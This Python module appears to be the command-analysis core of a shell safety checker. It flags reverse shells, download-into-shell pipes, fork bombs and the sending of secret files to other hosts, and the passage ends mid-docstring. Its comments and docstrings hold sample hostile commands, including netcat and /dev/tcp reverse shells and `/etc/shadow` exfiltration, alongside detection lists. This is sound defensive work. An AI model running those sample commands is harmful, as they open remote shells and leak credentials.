"""The judge: walks a command line's simple commands and the payloads they carry.

Every simple command is judged by what it can do: launchers are opened and their
payload judged recursively (as root, remotely, in a container), text fed to a shell is
judged when known and treated as unknown code when not, carried code is judged through
`judge_code`, and state that spans commands (downloads, written files, `cd`) through
`judge_memory`. Bounded: MAX_DEPTH levels of payload, MAX_STEPS simple commands; past
either it fails closed. Not responsible for the entry points or the final verdict
(`risk`), nor for running anything.
"""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING

from msgspec.structs import replace

from reos.model.risk import RiskLevel
from reos.safety.acting_files import special_tree
from reos.safety.expand import substitutions
from reos.safety.grammar import reads_only, reads_only_whatever, spec_for
from reos.safety.grammar_checks import safe_assignment
from reos.safety.judge_code import CodeJudge
from reos.safety.judge_memory import Memory
from reos.safety.launch import Launch
from reos.safety.launchers import open_launcher
from reos.safety.locate import (
    host_paths,
    join_path,
    piped_item,
    piped_paths,
    rebase,
    relative,
    same_file,
)
from reos.safety.paths import dynamic
from reos.safety.programs import (
    CARRIERS,
    DOWNLOADERS,
    INTERPRETERS,
    SHELLS,
    interpreter_name,
    resolve,
)
from reos.safety.rules import FILE_HANDLERS, Context, judge_write
from reos.safety.rules_system import handler_for
from reos.safety.signs import NETCATS, SHELL_OR_CODE, fork_bomb_text, netcat_exec, requested_exactly
from reos.safety.verdict import Verdict

if TYPE_CHECKING:  # the shell reader is imported only when a script is read
    from reos.safety.syntax import Redirect, SimpleCommand, Source

MAX_DEPTH = 8  # payload inside payload inside …
MAX_STEPS = 20000  # simple commands judged for one verdict
_WRITE_OPS = {">", ">>", ">|", "&>", "&>>", "<>", ">&"}
_CODE_ENV = ("LD_", "PATH", "BASH_ENV", "ENV", "PROMPT_COMMAND",
             "PYTHONSTARTUP", "PERL5OPT", "RUBYOPT", "NODE_OPTIONS", "PYTHONPATH", "PERL5LIB",
             "GCONV_PATH", "SHELLOPTS", "PS4", "BASH_FUNC_")
# variables that name a program other programs start (an editor, a pager, a remote shell)
_PROGRAM_ENV = {"EDITOR", "VISUAL", "SUDO_EDITOR", "PAGER", "MANPAGER", "SYSTEMD_PAGER",
                "SYSTEMD_EDITOR", "GIT_PAGER", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR",
                "GIT_SSH_COMMAND", "GIT_SSH", "GIT_EXTERNAL_DIFF", "GIT_ASKPASS", "SSH_ASKPASS",
                "SUDO_ASKPASS", "RSYNC_RSH", "LESSOPEN", "LESSCLOSE", "KUBE_EDITOR", "FCEDIT",
                "BROWSER", "TAR_RSH", "RSH", "CVS_RSH", "DIFF_PAGER", "BAT_PAGER", "DELTA_PAGER"}
_FETCHERS = DOWNLOADERS - {"rsync", "scp", "sftp", "nc", "ncat", "netcat", "socat", "aws",
                           "gsutil", "s3cmd"}


# text that cannot be parsed is split plainly; each different command is judged, up to this
_PLAIN_COMMANDS = 500


class Judge(Memory, CodeJudge):
    def __init__(self, verdict: Verdict) -> None:
        self.verdict = verdict
        self.read_only = True
        self.why_not_read_only: str | None = None  # the first word that decided it
        self.steps = 0
        self.downloaded: set[str] = set()  # files this script downloads (then maybe runs)
        self.shell_copies: set[str] = set()  # copies of shells and interpreters it makes
        self.written: dict[str, str] = {}  # files it writes, with their known content
        self.cwd: str | None = None  # the directory `cd` moved to (None: where reos runs)
        self.path_changed = False  # PATH was set: bare program names are no longer known
        self.network_fd = False  # a redirection opened /dev/tcp or /dev/udp
        # `exec 0<&3` after that: the script's own input or output is the connection
        self.network_stdio = False

    def mutates(self, why: str | None = None) -> None:
        self.read_only = False
        if why and self.why_not_read_only is None:
            self.why_not_read_only = why

    def _read_only_proof(self, argv: list[str], command: SimpleCommand | None) -> bool:
        """The read-only grammar's answer for one simple command (with its wrappers); for
        shell text, whatever its words known only at run time (`$X`, `*`) turn out to be.
        True when the grammar proved it only reads."""
        if command is not None and argv[1:] == command.argv[1:]:
            proof = reads_only_whatever(argv, command.dynamic, quoted=command.quoted)
            if proof.ok and command.globbed:
                proof = reads_only_whatever(argv, command.globbed, devices=False)
            from reos.safety.streams import stdin_fed  # shell text only: plan steps skip it

            if proof.ok and proof.sends == "stdin" and stdin_fed(command):
                self.mutates(f"{proof.program} sends what it reads on stdin to another "
                             "machine")
            for name, value in command.env.items():
                if not safe_assignment(f"{name}={value}") and not _shell_own(name):
                    self.mutates(f"`{name}=` sets a variable {proof.program or argv[0]} "
                                 "reads, which can change what it does")
            if command.too_big:
                self.mutates("a word expands into more than reos reads (a `{…}` of many "
                             "words, or a value doubled again and again)")
        else:
            proof = reads_only(argv, shell=command is not None)
        if not proof.ok:
            self.mutates(proof.why)
        elif self.cwd is not None and special_tree(self.cwd):  # `cd /proc; grep -r x`
            spec = spec_for(proof.program) if proof.program else None
            if spec is not None and spec.operands in ("tree", "grep-tree"):
                here = reads_only([*argv, self.cwd], shell=command is not None)
                if not here.ok:
                    self.mutates(here.why)
        return proof.ok

    def _evaluated(self, program: str, argv: list[str], command: SimpleCommand | None,
                   ctx: Context, depth: int) -> None:
        """Code hidden where bash evaluates it: `$(…)` inside a parameter expansion's
        operator (`${x:-$(cmd)}`), and array subscripts the shell's own words evaluate
        (`test -v 'a[$(cmd)]'`, `printf -v`, `read`, `declare`, `let`, `[[ $x -eq 1 ]]`),
        and the bodies of aliases (run when their name is used)."""
        dynamic_words = command.dynamic if command is not None else set()
        for i in _evaluated_words(program, argv):
            word = argv[i]
            name = word.partition("=")[0] if program in _DECLARES else word
            for inner in substitutions(name):
                self.mutates(f"it runs `{inner[:40]}` hidden in `{word[:40]}`")
                self.script(inner, ctx, depth + 1)
            if i in dynamic_words and "$" in name:
                self._unknown(ctx, f"{program} evaluates `{word[:40]}`, known only when it "
                              "runs, as a name or a number (which can run commands)")
        if program == "[[" and dynamic_words and _ARITHMETIC_TEST & set(argv):
            self._unknown(ctx, "[[ evaluates a value known only when it runs as a number "
                          "(which can run commands)")
        if program == "alias":
            for word in argv[1:]:
                name, eq, body = word.partition("=")
                if eq and body:
                    self.mutates(f"it defines the alias {name}, which runs `{body[:40]}`")
                    self.script(body, ctx, depth + 1)
        if program == "hash" and any(w.startswith("-") and "p" in w for w in argv[1:]):
            self.path_changed = True  # `hash -p FILE ls`: ls now runs FILE
        if program in _DECLARES:
            self._environment({w.partition("=")[0]: w.partition("=")[2]
                               for w in argv[1:] if "=" in w and not w.startswith("-")},
                              ctx, depth)

    # -- scripts -----------------------------------------------------------------------

    def script(self, text: str, ctx: Context, depth: int, env: dict[str, str] | None = None,
               only_if_high: bool = False) -> None:
        from reos.safety.shell import parse_script
        from reos.safety.syntax import Unparseable

        if only_if_high:  # a guess (string literals of code): count it only if it is bad
            probe = Judge(Verdict(command=text))
            probe.steps = self.steps
            probe.script(text, ctx, depth, env)
            self.steps = probe.steps
            if probe.verdict.risk >= RiskLevel.HIGH:
                self._merge(probe.verdict)
            return
        if depth > MAX_DEPTH:
            self._too_deep(text, ctx)
            return
        try:
            parsed = parse_script(text, env=env)
        except Unparseable as exc:
            self.verdict.raise_to(RiskLevel.HIGH, f"cannot be parsed reliably ({exc}); "
                                  "treated as dangerous")
            self.mutates("it cannot be parsed reliably")
            self._unread(text, ctx, depth)
            if exc.partial is None:
                return
            parsed = exc.partial  # what the grammar could read is judged too
        if parsed.respelled:  # as strict as when it was not read: it is reos's reading
            self.verdict.raise_to(RiskLevel.HIGH, f"bash's grammar cannot read it as written "
                                  f"({parsed.respelled}); read as bash would, and held as "
                                  "dangerous")
            self.mutates("reos reads it only spelled again")
        for what in parsed.fork_bombs:
            self.verdict.raise_to(RiskLevel.CRITICAL, f"fork bomb ({what})", block=True)
        directories: dict[int, str | None] = {}  # where each process was left (`cd`)
        process = 0
        for command in parsed.commands:
            if command.process != process:  # a coprocess's `cd` moves only itself
                directories[process] = self.cwd
                self.cwd = directories.get(command.process, self.cwd)
                process = command.process
            self.command(command, ctx, depth)
        if process:
            self.cwd = directories.get(0, self.cwd)

    def _merge(self, other: Verdict) -> None:
        for reason in other.reasons:
            self.verdict.raise_to(other.risk, reason, block=other.blocked,
                                  reversible=other.reversible, root=other.needs_root)

    def _too_deep(self, text: str, ctx: Context) -> None:
        self.verdict.raise_to(RiskLevel.HIGH, "nested too deeply to judge; treated as "
                              "dangerous")
        self.mutates("it is nested too deeply to judge")
        self._unread(text, ctx, MAX_DEPTH + 1)

    def _unread(self, text: str, ctx: Context, depth: int) -> None:
        """Text the reader could not read, or that nests too deeply: still catch what a
        plain split shows to be destructive (`signs.plain_commands`, `fork_bomb_text`)."""
        from reos.safety.signs import download_into_shell, plain_commands, plain_program

        if fork_bomb_text(text):
            self.verdict.raise_to(RiskLevel.CRITICAL, "fork bomb", block=True)
        if download_into_shell(text, _FETCHERS) and not (
                ctx.requested is not None and requested_exactly(ctx.requested, text)):
            self.verdict.raise_to(RiskLevel.CRITICAL, "pipes a download straight into a "
                                  "shell", block=True)
        seen: set[tuple[tuple[str, ...], tuple[str, ...]]] = set()
        for argv, redirects in plain_commands(text):
            key = (tuple(argv), tuple(f"{r.op}{r.target}" for r in redirects))
            if key in seen:  # 5,000 copies of `true` are judged once
                continue
            if len(seen) >= _PLAIN_COMMANDS:
                self.verdict.raise_to(RiskLevel.CRITICAL, "more different commands than "
                                      f"reos judges in text it cannot parse (over "
                                      f"{_PLAIN_COMMANDS})", block=True)
                return
            seen.add(key)
            for redirect in redirects:
                self.redirect(redirect, ctx)
            if plain_program(argv) in SHELL_OR_CODE and any(
                    r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in redirects):
                self.verdict.raise_to(RiskLevel.CRITICAL, f"connects {plain_program(argv)} to "
                                      "another machine (a reverse shell)", block=True)
            if argv:
                self.argv(argv, ctx, min(depth, MAX_DEPTH), None, {}, {},
                          shallow=depth > MAX_DEPTH)

    # -- one simple command ------------------------------------------------------------

    def command(self, command: SimpleCommand, ctx: Context, depth: int) -> None:
        from reos.safety.streams import output_of

        for redirect in command.redirects:
            self.redirect(redirect, ctx)
            if redirect.op in (">", ">>", ">|", "&>", "&>>") and command.argv:
                content = output_of(command)
                self._written_code(redirect.target, content, ctx, depth)
                self._remember_written(redirect.target, content, redirect.op == ">>")
        for code in stored_subscript_code(command):  # x='a[$(cmd)]': arithmetic runs it
            self.mutates(f"it stores `{code[:40]}` in a variable, where any arithmetic use "
                         "of the variable runs it")
            self.script(code, ctx, depth + 1)
        for code in command.hidden:  # ${x:-$(cmd)}, an unquoted here-document, $((x))
            self.mutates(f"it runs `{code[:40]}`, which bash finds inside a word")
            self.script(code, ctx, depth + 1)
        if not command.argv:  # `PATH=/tmp` alone: it changes what later commands run
            self._environment(command.env, ctx, depth)
            if command.too_big:
                self.mutates("a value grows past what reos reads (doubled again and again)")
            return
        if command.background and command.argv:  # `yes > /dev/null &`
            self.mutates("it goes on running in the background after the command line "
                         "ends")
        if command.function_call:  # a call: its body was judged
            return
        if command.dynamic_network:
            ctx = replace(ctx, network=True)
        self.argv(command.argv, ctx, depth, command, command.env, command.procsubs)

    def redirect(self, redirect: Redirect, ctx: Context) -> None:
        if redirect.target.startswith(("/dev/tcp/", "/dev/udp/")):
            self.network_fd = True
        if redirect.op in ("<", "<&") and not redirect.target.isdigit():
            from reos.safety.acting_files import device

            why = device(redirect.target)  # `< /dev/watchdog`: opening it acts
            if why:
                self.mutates(why)
        if redirect.op not in _WRITE_OPS:
            return
        target = redirect.target
        if target.isdigit() or target.startswith("&") or target == "-":
            return
        if self.cwd is not None and relative(target):
            target = join_path(self.cwd, target)
        if target not in ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2"):
            self.mutates(f"it writes to {target}")
        judge_write(target, self.verdict, ctx, "writes to")

    def argv(self, argv: list[str], ctx: Context, depth: int, command: SimpleCommand | None,
             env: dict[str, str], procsubs: dict[str, list[SimpleCommand]],
             shallow: bool = False) -> None:
        self.steps += 1
        if self.steps > MAX_STEPS:
            if self.steps == MAX_STEPS + 1:
                self.verdict.raise_to(RiskLevel.HIGH, "too many commands to judge; treated "
                                      "as dangerous")
            self.mutates("it holds too many commands to judge")
            return
        if not argv:
            return
        stdin = None
        if command is not None:  # parsed shell text; a plan's argv has no stdin to judge
            from reos.safety.streams import stdin_of
            stdin = stdin_of(command)
        word = argv[0]
        if dynamic(word):
            if self.network_fd:  # `exec 5<>/dev/tcp/H/P; … read l; $l` runs what arrives
                self.verdict.raise_to(RiskLevel.CRITICAL, "runs commands chosen at run time "
                                      "beside a network connection (a reverse shell)",
                                      block=True)
            self._unknown(ctx, "runs a program chosen at run time")
            return
        if self.downloaded and same_file(word) in self.downloaded:
            from reos.safety.syntax import Source
            self.payload(Source(None, network=True), ctx, depth, word, as_script=True)
            return
        if same_file(word) in self.written:  # a script this same command line wrote
            self.mutates("it runs a script it wrote itself")
            self.script(self.written[same_file(word)], ctx, depth + 1)
            return
        resolved, unknown = resolve(word)
        if resolved is not None and self.path_changed and "/" not in word:
            resolved, unknown = None, f"`{word}`, looked up on a PATH this command line set"
        if resolved is None:  # ./ls, /tmp/x/bin/ls: whatever file is there runs
            self._unknown(ctx, f"runs {unknown}")
            if _GLOB_START & set(word) and not shallow:  # /usr/bin/[r]m: each program it
                for match in _programs_matching(word):   # can name, judged as that one
                    self.argv([match, *argv[1:]], ctx, depth, command, env, procsubs,
                              shallow=True)
        program = word.rsplit("/", 1)[-1]
        program = interpreter_name(program) or program  # python3.12 is python
        argv = [program, *argv[1:]]
        if program in ("cd", "pushd", "popd", "chdir"):
            self._cd(argv)
            return
        if program == "coproc" and len(argv) == 1 and command is not None:
            # the keyword before a body the reader reads as its own commands (`respell`)
            self.verdict.raise_to(RiskLevel.HIGH, "coproc starts its commands in the "
                                  "background, wired to this shell by descriptors")
            self.mutates("coproc starts a coprocess")
            return
        if self.cwd is not None:
            argv = rebase(argv, self.cwd)
        # proved to only read: the program's own rules (rm, mkfs, the interpreters) judge
        # what it does otherwise, which this form does not (`rm --help`, `mke2fs -n`)
        proved = self._read_only_proof([word, *argv[1:]], command)
        if command is not None:
            self._evaluated(program, argv, command, ctx, depth)
        if command is not None and program in SHELL_OR_CODE and any(
                r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects):
            self.verdict.raise_to(RiskLevel.CRITICAL, f"connects {program} to another machine "
                                  "(a reverse shell)", block=True)
        wired = command is not None and self.network_fd and _to_descriptor(command)
        if wired and program == "exec" and len(argv) == 1:  # `exec 0<&3 1>&3`: from here on
            self.network_stdio = True
        if program in SHELL_OR_CODE and (wired or self.network_stdio):  # `sh <&3 >&3`
            self.verdict.raise_to(RiskLevel.CRITICAL, f"connects {program} to a network "
                                  "connection opened before it (a reverse shell)", block=True)
        if program in NETCATS and netcat_exec(argv):
            self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} hands a shell or program to "
                                  "the network", block=True)
        secret = _sent_secret(program, argv, command)
        if secret is not None:
            self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} sends {secret} to another "
                                  "machine (passwords, keys or tokens)", block=True)
        if program in NETCATS and command is not None and _shell_upstream(command):
            self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} sends the output of a shell "
                                  "that reads its commands from elsewhere (a reverse shell)",
                                  block=True)

        self._environment(env, ctx, depth)
        launch = open_launcher(argv) if not shallow or program in SHELLS else None
        if launch is not None:
            self.launch(launch, argv, ctx, depth, command, stdin, env, procsubs)
            return
        if program in INTERPRETERS and not proved:
            self.interpreter(argv, ctx, depth, stdin, procsubs)
            return
        found = None
        if program in CARRIERS:
            from reos.safety.payloads import carried

            found = carried(argv, env)
        if found is not None:
            self.carried(found, argv, ctx, depth)
            if found.runs_input:
                self._runs_input(program, argv, stdin, ctx, depth)
        handler = FILE_HANDLERS.get(program) or handler_for(program)
        if handler is not None and not proved:
            handler(argv, self.verdict, ctx)
        if stdin is not None and program in ("tee", "crontab", "dd", "cp", "install"):
            self._stdin_lands(program, argv, stdin, ctx, depth)
        if program == "chmod" and self.shell_copies:
            self._setuid_copy(argv)
        if program in ("cp", "install", "ln", "rsync") and len(argv) > 2:
            self._remember_copies(argv)
        elif program in _FETCHERS:
            self._download(argv, ctx)
        if found is not None and not found.read_only:
            self.mutates(f"{program} can write, delete or run something here")
        known = spec_for(program)
        if not self.read_only and handler is None and found is None and \
                (known is None or known.daemon) and program not in _FETCHERS:
            self.verdict.raise_to(RiskLevel.MEDIUM,
                                  f"{program} is not a command reos knows to be safe")

    def _runs_input(self, program: str, argv: list[str], stdin: Source | None, ctx: Context,
                    depth: int) -> None:
        """awk '{system($0)}', sed 's/…/…/e': the text they read is run as commands."""
        files = [a for a in argv[2:] if not a.startswith("-")]
        if stdin is not None and not files:
            self.payload(stdin, ctx, depth, program, as_script=True)
        else:
            self._unknown(ctx, f"{program} runs the text it reads as commands")

    def _unknown(self, ctx: Context, what: str) -> None:
        self.mutates(what)
        if ctx.root or ctx.network:
            self.verdict.raise_to(RiskLevel.CRITICAL, f"{what}, which cannot be known before "
                                  "it runs" + (" (as root)" if ctx.root else
                                               " (from the network)"), block=True)
        else:
            self.verdict.raise_to(RiskLevel.HIGH, f"{what}, which cannot be known before it "
                                  "runs")

    def _environment(self, env: dict[str, str], ctx: Context, depth: int) -> None:
        """Variables set for later commands (`X=1` alone, `export X=1`): one that programs
        read (GIT_DIR, http_proxy, LESSOPEN) can change what a reader does."""
        for name, value in env.items():
            if not safe_assignment(f"{name}={value}") and not _shell_own(name):
                self.mutates(f"`{name}=` sets a variable later programs may read, which can "
                             "change what they do")
            if name == "PATH":
                self.path_changed = True
            if name.startswith(_CODE_ENV):
                self.mutates(f"{name} makes the program load or run other code")
                self.verdict.raise_to(RiskLevel.HIGH, f"{name} makes the program load or run "
                                      "other code")
                if name in ("BASH_ENV", "ENV", "PROMPT_COMMAND") and value:
                    self.script(value, ctx, depth + 1)
                elif name == "PS4":  # expanded before each command `set -x` traces
                    for inner in substitutions(value):
                        self.script(inner, ctx, depth + 1)
            elif name in _PROGRAM_ENV and value.strip("| "):
                self.script(value.strip().lstrip("|"), ctx, depth + 1)

    def _download(self, argv: list[str], ctx: Context) -> None:
        if reads_only(argv).ok:
            return
        self.verdict.raise_to(RiskLevel.LOW, "downloads from the network")
        named = False
        for i, arg in enumerate(argv[1:], start=1):
            name, eq, value = arg.partition("=")
            if name in ("-o", "--output", "-O", "--output-document", "-P",
                        "--directory-prefix"):
                target = value if eq else (argv[i + 1] if i + 1 < len(argv) else "")
                if target and target != "-" and not (argv[0] == "curl" and name == "-O"):
                    named = True
                    judge_write(target, self.verdict, ctx, "downloads over")
                    self.downloaded.add(same_file(target))
        if not named:  # wget URL, curl -O URL: saved under the URL's last name
            for arg in argv[1:]:
                if "://" in arg:
                    self.downloaded.add(same_file(arg.rstrip("/").rsplit("/", 1)[-1]))

    # -- launchers ---------------------------------------------------------------------

    def launch(self, launch: Launch, argv: list[str], ctx: Context, depth: int,
               command: SimpleCommand | None, stdin: Source | None, env: dict[str, str],
               procsubs: dict[str, list[SimpleCommand]]) -> None:
        if depth + 1 > MAX_DEPTH:
            self._too_deep(shlex.join(argv), ctx)
            return
        for text in launch.local_scripts:  # ssh -o ProxyCommand=…: runs here, as we are
            self.mutates("it runs a command on this machine first")
            self.script(text, ctx, depth + 1)
        inner = replace(ctx, root=ctx.root or launch.escalated,
                        remote=ctx.remote or launch.remote)
        if not launch.transparent:
            self.mutates(f"{launch.label} runs another program")
        merged_env = {**env, **launch.env}
        saved_cwd = self.cwd
        if launch.cwd:
            self.cwd = launch.cwd if not relative(launch.cwd) else join_path(self.cwd or ".",
                                                                           launch.cwd)
        try:
            self._run_launch(launch, inner, depth, command, stdin, merged_env, procsubs)
        finally:
            if launch.cwd:
                self.cwd = saved_cwd

    def _run_launch(self, launch: Launch, inner: Context, depth: int,
                    command: SimpleCommand | None, stdin: Source | None, merged_env: dict[str, str],
                    procsubs: dict[str, list[SimpleCommand]]) -> None:
        from reos.safety.syntax import Source

        if launch.argv is not None:
            self._launched_argv(launch, inner, depth, command, stdin, merged_env, procsubs)
        if launch.script is not None:
            self.script(launch.script, inner, depth + 1, merged_env)
        for script in launch.scripts:
            self.script(script, inner, depth + 1, merged_env)
        if launch.file_runs in ("/dev/stdin", "-", "/dev/fd/0", "/proc/self/fd/0") and \
                stdin is not None:
            self.payload(stdin, inner, depth, launch.label, as_script=True)
        elif launch.file_runs is not None:
            self._file_runs(launch, inner, depth, procsubs)
        if launch.stdin_runs:
            if stdin is None and not (command is not None and command.fed_by_download):
                if launch.interactive:
                    self.mutates(f"it opens an interactive {launch.label} session")
                    self.verdict.raise_to(RiskLevel.HIGH if inner.root else RiskLevel.MEDIUM,
                                          f"opens an interactive {launch.label} session"
                                          + (" as root" if inner.root else ""))
            else:
                source = stdin or Source(None, network=True, what="a download")
                if command is not None and command.fed_by_download:
                    source = replace(source, network=True)
                self.payload(source, inner, depth, launch.label, as_script=True)

    def _launched_argv(self, launch: Launch, ctx: Context, depth: int,
                       command: SimpleCommand | None, stdin: Source | None,
                       env: dict[str, str], procsubs: dict[str, list[SimpleCommand]]) -> None:
        argv = list(launch.argv or [])
        if launch.args_file is not None:
            from reos.safety.streams import produced_by

            stdin = produced_by(procsubs.get(launch.args_file, []))
        if launch.mounts:
            argv = [host_paths(a, launch.mounts) for a in argv]
        if launch.args_from_stdin and argv:
            if stdin is not None and stdin.text is not None:
                items = stdin.text.replace("\0", " ").split()[:256]  # -0: NUL-separated
                if launch.replace:
                    argv = [a.replace(launch.replace, items[0] if items else "") for a in argv]
                else:
                    argv = argv + items
            elif stdin is not None and stdin.network:
                argv = argv + ["$ARGUMENTS_FROM_THE_NETWORK"]
                ctx = replace(ctx, network=True)
            elif launch.replace:  # each item: the worst name the pipe can give
                item = piped_item(command)
                argv = [a.replace(launch.replace, item) for a in argv]
            else:
                argv = argv + piped_paths(command, argv)
            self.argv(argv, ctx, depth + 1, None, env, procsubs)
            return
        inner_command = command
        self.argv(argv, ctx, depth + 1, inner_command, env, procsubs)

    def _file_runs(self, launch: Launch, ctx: Context, depth: int,
                   procsubs: dict[str, list[SimpleCommand]]) -> None:
        from reos.safety.streams import produced_by
        from reos.safety.syntax import Source

        path = launch.file_runs or ""
        if path in procsubs:
            self.payload(produced_by(procsubs[path]), ctx, depth, launch.label, as_script=True)
            return
        self.mutates(f"{launch.label} runs a script")
        if self.network_fd and path.startswith(("/dev/fd/", "/proc/self/fd/")):
            self.verdict.raise_to(RiskLevel.CRITICAL, f"{launch.label} runs what arrives on "
                                  "a network connection opened before it", block=True)
        elif self.downloaded and same_file(path) in self.downloaded:
            self.payload(Source(None, network=True), ctx, depth, launch.label, as_script=True)
        elif same_file(path) in self.written:
            self.script(self.written[same_file(path)], ctx, depth + 1)
        elif dynamic(path):
            self._unknown(ctx, f"{launch.label} runs a script chosen at run time")
        else:
            self.verdict.raise_to(RiskLevel.HIGH if ctx.root else RiskLevel.MEDIUM,
                                  f"runs the script {path}" + (" as root" if ctx.root else ""))

    def payload(self, source: Source, ctx: Context, depth: int, label: str,
                as_script: bool) -> None:
        """Code that arrives as text (stdin, a process substitution, a decoded string);
        `as_script`: it is read by a shell (else by the interpreter named `label`)."""
        self.mutates(f"{label} runs code")
        if source.network:
            if ctx.requested is not None and requested_exactly(ctx.requested, self.verdict.command):
                self.verdict.raise_to(RiskLevel.HIGH, "runs a downloaded script (you asked "
                                      "for it)")
            else:
                self.verdict.raise_to(RiskLevel.CRITICAL, f"pipes a download straight into "
                                      f"{'a shell' if as_script else label}", block=True)
            return
        if source.hidden:
            self.verdict.raise_to(RiskLevel.CRITICAL, f"{label} runs {source.what}: what runs "
                                  "is hidden on purpose", block=True)
            return
        if source.text is not None:
            if as_script:
                self.script(source.text, ctx, depth + 1)
            else:
                from reos.safety.code_scan import Carried, judge_code

                found = Carried()
                judge_code(source.text, label, found)
                self.carried(found, [label], ctx, depth)
            return
        self._unknown(ctx, f"{label} runs {source.what or 'text'}")

    # -- interpreters and carried code ---------------------------------------------------


def _to_descriptor(command: SimpleCommand) -> bool:
    """Whether the command's input or output is moved to a descriptor above 2 (`<&3`,
    `>&3`, `<&3-`): one a script opened itself."""
    return any(r.op in ("<&", ">&") and r.target.rstrip("-").isdigit()
               and int(r.target.rstrip("-")) > 2 for r in command.redirects)


_GLOB_START = frozenset("*?[")


# programs that send their input to another machine
_STDIN_SENDERS = frozenset({"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat",
                            "telnet", "curl", "wget", "ssh", "mail", "mailx", "sendmail",
                            "mutt"})
_UPLOADS = ("-T", "--upload-file", "--post-file", "--body-file", "-A", "-a", "--attach")


def _prints_secrets(argv: list[str]) -> str | None:
    """What secret a command writes on its output, if it is one that does: gpg's exported
    secret keys, a cluster's secrets, the whole environment (where tokens live)."""
    if not argv:
        return None
    program, words = argv[0].rsplit("/", 1)[-1], argv[1:]
    if program in ("gpg", "gpg2") and any(
            w.startswith(("--export-secret-keys", "--export-secret-subkeys")) for w in words):
        return "the secret keys gpg exports"
    if program == "kubectl" and "get" in words and any(
            w in ("secret", "secrets") or w.startswith(("secret/", "secrets/"))
            for w in words):
        return "the cluster's secrets"
    if program in ("env", "printenv") and not any(not w.startswith("-") for w in words):
        return "the whole environment (where tokens and passwords live)"
    return None


def _sent_secret(program: str, argv: list[str], command: SimpleCommand | None) -> str | None:
    """A secret file (`/etc/shadow`, a private key) sent to another machine: on a sender's
    input (`< /etc/shadow`, `cat /etc/shadow | nc h p`), as an upload (`curl -d @FILE`,
    `curl -T FILE`, `mail -A FILE`, `socat FILE:… TCP:…`), copied to a remote host (`scp
    FILE h:`, `rsync FILE h:`), or written to `/dev/tcp`."""
    from reos.safety.paths import is_secret

    given: list[str] = []
    to_network = command is not None and any(
        r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects
        if r.op in _WRITE_OPS)
    if program == "openssl" and "s_client" in argv[1:2]:
        program = "nc"  # a TLS connection that sends its input
    if command is not None and (program in _STDIN_SENDERS or to_network):
        given += [r.target for r in command.redirects if r.op in ("<", "<>")]
        up = command.upstream
        for _ in range(1000):
            if up is None:
                break
            printed = _prints_secrets(up.argv)
            if printed is not None:
                return printed
            given += up.argv[1:] + [r.target for r in up.redirects if r.op == "<"]
            up = up.upstream
        if to_network:
            given += argv[1:]
    words = argv[1:]
    if program in ("curl", "wget", "mail", "mailx", "mutt"):
        given += [w.rpartition("@")[2] for w in words if "@" in w and "://" not in w]
        given += [words[i + 1] for i, w in enumerate(words[:-1]) if w in _UPLOADS]
        given += [w.partition("=")[2] for w in words if w.partition("=")[0] in _UPLOADS]
    if program == "socat":
        given += [w.partition(":")[2].split(",")[0] for w in words
                  if w.upper().startswith(("FILE:", "OPEN:", "GOPEN:"))]
    if program in ("scp", "rsync", "sftp") and any(_remote(w) for w in words):
        given += [w for w in words if not w.startswith("-") and not _remote(w)]
    return next((p for p in given if p and is_secret(p)), None)


def _remote(word: str) -> bool:
    """`host:path` or `user@host:path` (scp, rsync): a place on another machine."""
    head = word.split("/", 1)[0]
    return ":" in head and not word.startswith(("/", "./", "~"))


def _shell_upstream(command: SimpleCommand) -> bool:
    """Whether a shell earlier in this pipeline reads its commands from its input (no
    `-c`, no script): `cat fifo | sh -i | nc H P > fifo`."""
    from reos.safety.programs import SHELLS

    up = command.upstream
    for _ in range(1000):
        if up is None:
            return False
        words = up.argv[1:]
        if up.program in SHELLS and not any(
                w == "-c" or (w[:1] == "-" and w[1:2] != "-" and "c" in w) for w in words) \
                and all(w.startswith(("-", "+")) for w in words):
            return True
        up = up.upstream
    return False


_DECLARES = frozenset({"export", "declare", "typeset", "local", "readonly"})
_SHELL_OWN = frozenset({"IFS", "OPTIND", "OPTARG", "REPLY"})


def _shell_own(name: str) -> bool:
    """A variable only the shell script itself uses: lower-case by custom (programs read
    upper-case names, except the proxy settings), or the shell's own (IFS)."""
    return name in _SHELL_OWN or (name == name.lower() and "proxy" not in name)


def _evaluated_words(program: str, argv: list[str]) -> list[int]:
    """Where the shell's own words evaluate a word as a variable name (with its array
    subscript, which bash expands and runs) or a number: `printf -v NAME`, `test -v NAME`,
    `read NAME`, `declare NAME=…`, `let EXPR`, `[[ X -eq Y ]]`."""
    words = argv[1:]
    after = {i + 2 for i, w in enumerate(words) if w == "-v"}  # the word after -v
    if program in ("printf", "test", "[", "wait"):
        return sorted(i for i in after if i < len(argv))
    if program == "[[":
        around = {i + 1 + d for i, w in enumerate(words) if w in _ARITHMETIC_TEST
                  for d in (-1, 1)}
        return sorted(i for i in after | around if 0 < i < len(argv))
    if program in ("let", "unset", *_DECLARES):
        return [i for i, w in enumerate(words, 1) if not w.startswith("-")]
    if program in ("read", "mapfile", "readarray", "getopts"):
        return [i for i, w in enumerate(words, 1) if not w.startswith("-")][-1:] \
            if program != "read" else [i for i, w in enumerate(words, 1)
                                       if not w.startswith("-")]
    return []
_ARITHMETIC_TEST = frozenset({"-eq", "-ne", "-lt", "-le", "-gt", "-ge"})


def _programs_matching(word: str, limit: int = 16) -> list[str]:
    """The system programs a glob-spelled command word can name (`/usr/bin/[r]m`, `r?`)."""
    import fnmatch
    import os

    from reos.safety.programs import SYSTEM_PATH

    folder, _, pattern = word.rpartition("/")
    folders = [folder] if folder else list(SYSTEM_PATH)
    found: list[str] = []
    for place in folders:
        if place not in SYSTEM_PATH:
            continue
        try:
            names = os.listdir(place)
        except OSError:
            continue
        found += [n for n in fnmatch.filter(names, pattern) if n not in found]
        if len(found) >= limit:
            break
    return found[:limit]


_DECLARERS = ("declare", "typeset", "local", "export", "readonly")


def stored_subscript_code(command: SimpleCommand) -> list[str]:
    """The commands a value stored by this command holds inside an array subscript
    (`x='a[$(cmd)]'`, `declare -i n='z[`cmd`]'`). bash runs them whenever the value is
